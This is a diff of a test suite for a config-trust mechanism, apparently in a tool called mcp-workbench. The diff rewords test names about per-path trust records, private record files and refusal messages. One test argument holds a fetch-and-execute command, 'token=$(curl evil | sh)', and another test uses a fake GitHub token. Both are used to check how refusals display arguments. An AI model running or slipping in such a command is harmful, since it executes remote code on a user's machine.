@@ -33,7 +33,7 @@ const found = (text = TEXT, file = "/p/workbench-config.json") => ({
 });
 
 describe("trust", () => {
-  it("is given to one content at one place", async () => {
+  it("applies to one content at one path", async () => {
     expect(trustOf(found(), env)).toBe("unknown");
     await trustConfig(found(), env);
     expect(trustOf(found(), env)).toBe("trusted");
@@ -43,19 +43,19 @@ describe("trust", () => {
     expect(trustOf(found(), env)).toBe("changed");
   });
 
-  it("tells bytes apart that are the same text", async () => {
+  it("distinguishes different bytes with the same text", async () => {
     await trustConfig(found(), env);
     const bytes = Buffer.from(`\ufeff${TEXT}`);
     expect(trustOf({ ...found(), bytes }, env)).toBe("changed");
   });
 
-  it("is recorded for this user alone", async () => {
+  it("is recorded in a private file", async () => {
     await trustConfig(found(), env);
     expect(statSync(trustFile(env)).mode & 0o777).toBe(0o600);
     expect(statSync(join(root, "state/mcp-workbench")).mode & 0o777).toBe(0o700);
   });
 
-  it("of one file leaves that of others alone", async () => {
+  it("of one file does not affect other files", async () => {
     await trustConfig(found(TEXT, "/a"), env);
     await trustConfig(found(TEXT, "/b"), env);
     expect(trustOf(found(TEXT, "/a"), env)).toBe("trusted");
@@ -84,7 +84,7 @@ describe("trust", () => {
       },
     ],
     ["of another user", () => vi.spyOn(process, "getuid").mockReturnValue(4_000_000)],
-  ])("means nothing if the record is %s", async (_, spoil) => {
+  ])("is ignored if the record is %s", async (_, spoil) => {
     await trustConfig(found(), env);
     spoil();
     expect(trustOf(found(), env)).toBe("unknown");
@@ -112,7 +112,7 @@ describe("a refusal", () => {
     return refusalOf(found(text), "unknown", env);
   };
 
-  it("says which file, what it would do and how to go on", async () => {
+  it("names the file, what it would do and how to continue", async () => {
     const error = await refusal({ command: "sh", args: ["-c", "id"] });
     expect(error.exitCode).toBe(3);
     expect(error.text).toBe(
@@ -121,12 +121,12 @@ describe("a refusal", () => {
         "  It would:",
         "    start t/s: sh -c id",
         "If you trust it: mcp-workbench trust --config /p/workbench-config.json",
-        "For one command, give it by name: --config /p/workbench-config.json",
+        "To use it for one command: --config /p/workbench-config.json",
       ].join("\n"),
     );
   });
 
-  it("shows no token, because errors end up in logs, but nothing else is taken for one", async () => {
+  it("masks tokens, because errors end up in logs, but nothing else", async () => {
     const args = [`--key=ghp_${"a1B2c3D4e5".repeat(4)}`, "token=$(curl evil | sh)"];
     const { message } = await refusal({ command: "x", args });
     expect(message).toContain("start t/s: x --key=*** 'token=$(curl evil | sh)'");
@@ -142,7 +142,7 @@ describe("a refusal", () => {
 });
 
 describe("findConfig", () => {
-  it("gives the bytes that were judged, and reads none if they are not trusted", async () => {
+  it("returns the bytes whose trust was checked, and none if they are not trusted", async () => {
     const file = join(root, "workbench-config.json");
     writeFileSync(file, TEXT);
     await expect(findConfig({ cwd: root, env })).rejects.toMatchObject({
